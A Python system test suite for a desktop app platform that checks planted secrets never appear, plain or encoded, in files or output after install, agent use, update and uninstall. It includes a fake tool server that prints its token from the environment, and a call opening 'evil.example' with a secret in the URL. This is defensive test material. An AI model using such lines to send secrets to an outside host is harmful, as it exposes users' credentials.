"""After a full run no file that the product wrote holds a secret (the issue: plain or encoded, wherever it was planted)."""

import asyncio
import base64
import json
import os
import subprocess
import sys
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from lime_desktop.app_server.models.store import PLACE_VARIABLE
from lime_desktop.app_server.secrets.keyring_place import SWITCH
from lime_desktop.host.app_center.opening import open_center
from lime_desktop.host.app_server_client.sidecar import Sidecar, app_server_command
from lime_desktop.host.approvals.question import NO, Question
from lime_desktop.host.apps.registration import AppRegistration
from lime_desktop.host.apps.registry import AppRegistry, RegisteredApp
from tests.app_server.model_server import ModelServer, failure, text, tool_calls
from tests.conformance.packages import app_md, write_package
from tests.host.bridged import Bridged
from tests.host.contracts.agent import ended
from tests.security.planted import PLANTED, spellings, traces_below, traces_in

pytestmark = [pytest.mark.system, pytest.mark.timeout(600)]

MANIFEST = """\
requires:
  capabilities: {lime.storage: '>=0.3.0', lime.agent: '>=0.3.0', lime.secrets: '>=0.3.0', lime.evidence: '>=0.3.0', lime.settings: '>=0.3.0'}
storage: {namespace: notes}
secrets: [{key: crm, provider: crm}]
overlayTemplates: [{key: brand, scope: user}]
permissions: [{key: keep, scope: storage, access: read-write}]
agentRuntime: { agentTask: { toolDiscovery: { mode: eager } } }
"""
ORGANISATION = """\
version: 1
name: Example Ltd
policy:
  rules:
    - {id: ask, effect: ask, text: Writing is watched., when: {capabilities: [lime.storage], accesses: [write]}}
"""
FAILING_SERVER = (
    "import os, sys; print(os.environ['CRM_TOKEN'], file=sys.stderr, flush=True); sys.exit(1)"
)
"""A tool server that tells its secret as it dies."""


def test_a_search_finds_a_secret_however_it_is_written(tmp_path: Path) -> None:
    secret = PLANTED["app secret"]
    inside = base64.b64encode(json.dumps({"token": secret}).encode())
    for number, body in enumerate((*spellings(secret), inside)):
        path = tmp_path / str(number)
        path.write_bytes(b"before " + body + b" after")
        assert traces_below(path.parent)[str(path)] == {"app secret"}, body
    assert traces_in(b"nothing of the kind") == set()


@pytest.mark.requirement("APP-28")
def test_after_a_full_run_no_file_holds_a_secret(
    tmp_path: Path, repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written, home = tmp_path / "written", tmp_path / "home"
    data = written / "data"
    written.mkdir()
    home.mkdir()
    surroundings = {
        SWITCH: "off",
        PLACE_VARIABLE: os.devnull,
        "HOME": str(home),
        "XDG_CACHE_HOME": str(home / "cache"),
        "OPENAI_API_KEY": PLANTED["parent's environment"],
        "LIME_TEST_NOTE": PLANTED["parent's environment"],
    }
    for name, value in surroundings.items():
        monkeypatch.setenv(name, value)
    first = write_package(tmp_path / "1", {"APP.md": app_md(MANIFEST)})
    newer = app_md(MANIFEST).replace("version: 1.0.0", "version: 2.0.0")
    second = write_package(tmp_path / "2", {"APP.md": newer})
    consent = ("--data-dir", data, "--yes", "--accept-unsigned", "--grant", "keep")

    said = _command(repository, "install", first, *consent)
    said += asyncio.run(asyncio.wait_for(_work(tmp_path, data), 120))
    said += _command(repository, "update", second, *consent)
    assert traces_below(written, home) == {}
    archive = written / "export.zip"
    said += _command(
        repository, "uninstall", "notes", "--export", archive, "--yes", "--data-dir", data
    )
    assert archive.exists()
    assert traces_below(written, home) == {}
    assert traces_in(said.encode()) == set()


def _command(repository: Path, *arguments: str | Path) -> str:
    """A command as a person runs it: a process of its own. Gives all it says."""
    done = subprocess.run(  # noqa: S603 - our own program
        [sys.executable, "-m", "lime_desktop", *arguments],
        cwd=repository,
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, (done.stdout, done.stderr)
    return done.stdout + done.stderr


async def _work(folder: Path, data: Path) -> str:
    """Everything that a person does with the app between its install and its update; what was said meanwhile."""
    organisation = folder / "organisation.yaml"
    await asyncio.to_thread(organisation.write_text, ORGANISATION)
    key = PLANTED["provider key"]
    write = {"key": "login", "value": {"password": PLANTED["tool argument"]}}
    replies = [tool_calls(("c1", "storage_set", write)), text("Then not."), failure(401, key)]
    with ModelServer([*replies]) as provider:
        async with _opened(data, organisation) as (page, sidecar):
            said = [await _plant(page, provider.url)]
            said += [await _ask_an_agent(page), await _fail(page), await _be_refused(page)]
            said.append(await _export(page))
            logged = list(sidecar.log_lines)
    assert provider.asked[0].headers["authorization"] == f"Bearer {key}"
    return "\n".join([*said, *logged])


@asynccontextmanager
async def _opened(data: Path, organisation: Path) -> AsyncGenerator[tuple[Bridged, Sidecar]]:
    command = (*app_server_command(data / "app-server"), "--log-level", "debug")
    sidecar = await Sidecar.start(command)
    center = await open_center(data, sidecar.connection.call)
    registry = AppRegistry("en")
    try:
        await center.membership.join(str(organisation))
        await registry.follow(center)
        await AppRegistration(registry).introduce(sidecar.connection)
        page = Bridged(lambda: _on(registry), sidecar.connection, center=center)
        page.approvals.follow(center)
        page.approvals.agents.introduce(sidecar.connection)
        try:
            yield page, sidecar
        finally:
            page.bridge.close()
            await page.approvals.close()
    finally:
        await registry.close()
        await center.close()
        await sidecar.stop()


def _on(registry: AppRegistry) -> RegisteredApp:
    [app] = registry.apps
    return app


async def _plant(page: Bridged, url: str) -> str:
    """A key for models, a secret for the app, and one for a tool server that gives it away."""
    models = [{"modelId": "test-model"}]
    settings = {"title": "Test", "protocol": "openai-compatible", "baseUrl": url, "models": models}
    told = [await _call(page, "modelProvider/create", providerId="p1", settings=settings)]
    key = PLANTED["provider key"]
    told.append(await _call(page, "modelProviderKey/update", providerId="p1", key=key))
    page.window.typed = asyncio.get_running_loop().create_future()
    page.window.typed.set_result(SecretStr(PLANTED["app secret"]))
    bound = await page.value("lime.secrets.requestBinding", key="crm")
    assert bound["status"] == "bound"
    told += [bound, await page.value("lime.secrets.getRef", key="crm")]
    server = {"serverId": "crm", "command": [sys.executable, "-c", FAILING_SERVER]}
    value = {"kind": "variable", "name": "CRM_TOKEN", "value": PLANTED["tool server secret"]}
    told.append(await _call(page, "mcpServer/add", settings=server, values=[value]))
    tried = await page.connection.peer.request("mcpServer/test", {"serverId": "crm"})
    return json.dumps([*told, tried])


async def _ask_an_agent(page: Bridged) -> str:
    """The agent wants to write a password down; the person is asked, and says no."""
    asked = asyncio.Event()
    leave = page.approvals.queue.watch(asked.set)
    task = await page.value("lime.agent.startTask", title="Log in", prompt="Log in")
    await asked.wait()
    leave()
    [question] = page.approvals.queue.open
    assert question.action == "storage_set"
    page.approvals.queue.answer([question.question_id], NO)
    await ended(page, task["taskId"])
    found = await page.value("lime.agent.getTask", taskId=task["taskId"])
    return json.dumps(found) + _words(question)


async def _fail(page: Bridged) -> str:
    """The provider refuses its key, and repeats it in its answer."""
    task = await page.value("lime.agent.startTask", title="Again", prompt="Again")
    await ended(page, task["taskId"])
    found = await page.value("lime.agent.getTask", taskId=task["taskId"])
    assert found["status"] == "failed"
    return json.dumps(found)


async def _be_refused(page: Bridged) -> str:
    """A page sends secrets along with calls that are denied, and with one that a person declines."""
    secret = PLANTED["denied call"]
    told = [
        await page("lime.events.emit", topic="t", payload={"token": secret}),
        await page("lime.storage.set", key=5, value=secret),
        await page("lime.nowhere.send", token=secret),
    ]
    # The window asks about a link, and this one says yes to all: what it opens is told nowhere.
    await page("lime.ui.openExternal", url=f"https://evil.example/?token={secret}")
    wanted = {"key": "templates.brand.note", "value": PLANTED["declined call"]}
    assert await page.code("lime.settings.set", **wanted) == "APP_E010"
    asked = {each.action: each.question_id for each in page.approvals.queue.open}
    page.approvals.queue.answer([asked["lime.settings.set"]], NO)
    told.append(await page("lime.settings.set", **wanted))
    assert not any(answer["ok"] for answer in told)
    return json.dumps(told)


async def _export(page: Bridged) -> str:
    """Evidence of the app and of every session, written to files as well."""
    await page.value("lime.evidence.record", kind="note", message="Done", refs=[])
    listed: Any = await page.connection.peer.request("agentSession/list", {})
    told: list[Any] = [await page.value("lime.evidence.list")]
    for session in listed["sessions"]:
        wanted = {"sessionId": session["sessionId"], "includeEvents": True}
        wanted |= {"includeArtifacts": True, "includeEvidencePack": True}
        told.append(await _call(page, "evidence/export", **wanted))
    assert len(told) > 2
    return json.dumps(told)


async def _call(page: Bridged, method: str, **params: Any) -> Any:
    return await page.connection.peer.request(method, params)


def _words(question: Question) -> str:
    return f"{question.prompt} {question.arguments} {question.leaves_machine}"
